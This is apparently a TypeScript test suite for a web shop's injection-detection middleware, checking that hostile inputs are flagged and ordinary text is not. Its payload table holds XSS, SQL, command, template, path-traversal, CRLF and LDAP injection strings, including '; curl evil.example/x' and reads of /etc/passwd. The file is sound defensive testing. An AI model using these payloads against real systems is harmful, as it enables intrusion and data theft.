import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { SecurityEvent } from '@shop/chassis/security-event.ts'
import { suspicionOf } from './injection-rules.ts'
import { inspect } from './inspect.ts'

const HOSTILE: Record<string, string[]> = {
  markup: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'JaVaScRiPt:alert(1)', '<!--#exec cmd="id"-->', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "x' onfocus=alert(1) autofocus='", '</script ><script>1', '＜script＞alert(1)', '<iframe srcdoc=x>'],
  sql: ["' OR '1'='1", '1; DROP TABLE orders--', "' UNION SELECT null,version()--", "1' AND pg_sleep(8)--", "'||pg_sleep(8)||'", "\\'; select 1 --", "%' OR 1=1 /*", "id' ORDER BY 99--", 'ʼ OR 1=1--', "x') or ('a'='a", 'union/**/select/**/1', "1' waitfor delay '0:0:5'--", "' or ''='"],
  operator: ['{"$gt":""}', '[$ne]=1', 'quantity[$ne]', '__proto__', 'constructor.prototype', 'constructor[prototype]'],
  command: ['; id', '| cat /etc/passwd', '`id`', '$(id)', '& ping -c 8 127.0.0.1', '\n/bin/id', '-oProxyCommand=id', '; curl evil.example/x', '&& whoami', '|| ls'],
  file: ['../../../../etc/passwd', '....//....//etc/passwd', 'file:///etc/passwd', '..\\..\\boot.ini', 'gopher://127.0.0.1:6379/'],
  template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{constructor.constructor("return 1")()}}', '*{7*7}', '@(7*7)', '${jndi:ldap://x}'],
  line: ['a\r\nSet-Cookie: x=1', 'a%0d%0aSet-Cookie:%20x=1', 'a\u560d\u560aSet-Cookie: x=1', 'a\n{"level":60,"msg":"forged"}', '=HYPERLINK("http://evil.example")', '\u001b[2Jcleared', 'a\0b'],
  filter: ['*)(uid=*))(|(uid=*', 'admin)(&(password=*))'],
}
const BENIGN = [
  "O'Brien", 'O’Brien & Sons', 'drop shipping', 'drop-leaf table', 'select a table', 'Tables; select a size', '<3', 'I <3 you', '한국어', '嘍', 'Müller & Söhne', '50% off', 'A+ (2)', 'C:\\', 'e.g. 1=1', 'naïve café', '"quoted"', 'union of cups', 'order by 5 pm', '$1', '$5.00 off',
  'dog & cat bowl', 'passport & id', 'ping & pong', "rock 'n' roll", '"Salt" and "Pepper" mills', "'70s or '80s", '10" x 12"', '3 > 2', 'Array<string> mug', 'C++ & C# (2nd ed.)', 'if (x < 3 && y > 1)', '#!shirt', 'sudo !!', 'git commit -m "fix"', '@media print', '<br> socks', '$HOME sweet home', ';-)', '¯\\_(ツ)_/¯', 'Q&A', '{ }', 'null',
  'SELECT coffee FROM pot', 'like new', 'grants and groups', 'and/or', 'sleep (well)', 'script font', 'Form & Function', 'the update', 'image/svg+xml', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', '"Chromium";v="124", "Not(A:Brand";v="99"',
  'https://localhost:12000/search?q=cup&page=2', '/products/0b6c1b1e-7d0e-7c4d-8a3f-2f7e5d1c9a11', 'Lantern Row 7\nTel: +49 30 1234', '=', '-5', '+49 30 123', '@home', '=)', 'Ω(n) notation', '100% (really)', 'W/"abc"', '{"a":{"b":{}}}',
]

describe('S5.1 T1 what looks like an injection', () => {
  test.each(Object.entries(HOSTILE).flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const)))('%s: %j', (kind, text) => {
    expect(suspicionOf(text)).toMatchObject({ detection: kind === 'markup' ? 'IE1' : 'CIE1' })
  })
  test.each(Object.values(HOSTILE).flat().filter((text) => !/[\0\u001b]/.test(text)))('%j is seen through one more encoding', (text) => {
    const utf8 = [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
    for (const spelling of [utf8, utf8.replaceAll('%', '%25'), [...text].map((c) => `&#${c.codePointAt(0)};`).join(''), text.replace(/./gsu, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`), [...text].join('\u200b')]) expect(suspicionOf(spelling)).not.toBeNull()
  })
  test.each(BENIGN)('what people really write is no injection: %j', (text) => expect(suspicionOf(text)).toBeNull())
  test('nor are plain words in any language', () => {
    fc.assert(fc.property(fc.stringMatching(/^[\p{L}\p{N} .,?-]{0,80}$/u), (text) => { fc.pre(!/[\u560a]/.test(text.normalize('NFKC'))); expect(suspicionOf(`a ${text}`)).toBeNull() }), { numRuns: 500 })
  })
  test('the cheap look at first misses nothing that a rule would find', () => {
    for (const text of Object.values(HOSTILE).flat()) expect(suspicionOf(`x ${text}`) === null, text).toBe(text.startsWith('='))
  })
  // Quadratic time would take minutes; linear takes a few hundredths of a second.
  test.each(["'", '"', '<', '{', '{{', '${', '$(', '; ', '\n', '..', '%25', '%', '&#', '\\u', '-', "' or ", "' or a", 'union ', 'union(', ';select ', '(', ') (', '*)(a', '`', '\r\n ', 'on', ' onerror ', '; cat a', '<img', 'or 1 =', "'x", '@(1 ', '=a', 'constructor[', '/bin/', '&lt;', 'a', '\u200b'])('64 KiB of %j take no time', (part) => {
    const started = performance.now()
    suspicionOf(`${part.repeat(Math.ceil(65_536 / part.length)).slice(0, 65_530)}\u0001`)
    expect(performance.now() - started).toBeLessThan(2_000)
  })
})

describe('S5.1 the stage', () => {
  const seen = async (change: { path?: string; query?: string; headers?: Record<string, string>; body?: string; refuses?: boolean }) => {
    const reported: SecurityEvent['data'][] = []
    const headers = { 'content-type': 'application/json', ...change.headers }
    const call = {
      hasBody: change.body !== undefined, path: change.path ?? '/api/products', query: change.query ?? '', request: { headers, socket: {} }, header: (name: string) => (headers as Record<string, string>)[name], address: '127.0.0.1', trace: { traceId: 'f'.repeat(32) },
      body: async () => Buffer.from(change.body ?? ''),
    }
    const { request, ended } = inspect((detail) => void reported.push(detail))
    await request!(call as never)
    if (!change.refuses) await call.body()
    ended!(call as never)
    return reported
  }
  const text = "' OR '1'='1"
  test.each([
    ['path', { path: `/api/products/${encodeURIComponent(text)}` }], ['query.search', { query: `search=${encodeURIComponent(text).replaceAll('%20', '+')}` }], [`query.${text}`, { query: `${encodeURIComponent(text)}=1` }], ['header.user-agent', { headers: { 'user-agent': text } }],
    ['header.cookie', { headers: { cookie: `a=b; c=${text}` } }], ['body', { body: JSON.stringify({ a: [{ b: text }] }) }], ['body', { body: JSON.stringify({ [text]: 1 }) }], ['body', { body: `{"a":"\\u0027 OR \\u00271\\u0027=\\u00271"}` }], ['body', { body: `{"a": ${text}` }],
    ['body.a', { body: `a=${encodeURIComponent(text)}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }], ['body', { body: `--x\r\nContent-Disposition: form-data; name="${text}"\r\n\r\n`, headers: { 'content-type': 'multipart/form-data; boundary=x' } }],
  ])('tells of %s, once, and lets it pass', async (field, change) => {
    expect(await seen(change)).toMatchObject([{ detection: 'CIE1', code: 'injection-suspected', control: 'inspect', fields: [field] }])
  })
  test('tells also of what something behind it refuses', async () => expect(await seen({ query: `search=${encodeURIComponent(text)}`, refuses: true })).toHaveLength(1))
  test('tells each time, and nothing of an honest request', async () => {
    expect(await seen({ query: `a=${encodeURIComponent('{{7*7}}')}&b=1` })).toHaveLength(1)
    expect(await seen({ query: 'search=cup&page=2', headers: { cookie: '__Host-s=abc.def' }, body: '{"quantity":2,"deep":{"list":["한국어",null,1.5]}}' })).toEqual([])
  })
  test('a connection that repeats itself is reported each time it tries, and may stop', () => {
    const reported: SecurityEvent['data'][] = []
    const { request, ended } = inspect((detail) => void reported.push(detail))
    const socket = {}
    const say = (headers: Record<string, string>) => {
      const call = { hasBody: false, path: '/api/products', query: '', request: { headers, socket }, address: '127.0.0.1', trace: { traceId: 'f'.repeat(32) } } as never
      void request!(call)
      ended!(call)
      return reported.length
    }
    const hostile = { 'user-agent': '<script>alert(1)</script>' }
    expect([say({ 'user-agent': 'a' }), say({ 'user-agent': 'a' }), say(hostile), say(hostile), say({ 'user-agent': 'a' }), say({ 'user-agent': 'a', referer: '{{7*7}}' }), say({ 'user-agent': 'a' })]).toEqual([0, 0, 1, 2, 2, 3, 3])
  })
})
